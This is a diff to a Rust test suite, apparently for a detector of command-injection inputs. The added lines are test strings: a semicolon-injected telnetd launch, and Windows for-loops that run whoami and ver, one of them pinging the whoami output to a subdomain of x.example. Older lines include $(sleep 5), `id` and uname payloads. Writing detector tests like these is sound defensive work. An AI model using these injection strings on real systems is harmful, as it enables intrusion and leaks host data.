@@ -51,6 +51,10 @@ fn positions() {
     check("$(sleep 5)", "substitution delay number");
     check("`id`", "substitution recon bare");
     check("1';uname -a;'", "semicolon recon quote-break");
+    check("127.0.0.1;telnetd", "semicolon network bare");
+    check("&for /f %i in ('whoami') do ping %i.x.example", "loop");
+    check("1|for /f \"delims=\" %A in ('ver') do @echo %A", "loop");
+    assert!(!kinds("for /f and 5 % in (all) cases").contains("loop"));
     // The apostrophe of a word opens no string.
     assert!(!kinds("it's so: grep -v '#' && ls -la").contains("quote-break"));
     check("+|+dir+c:\\", "pipe listing path");
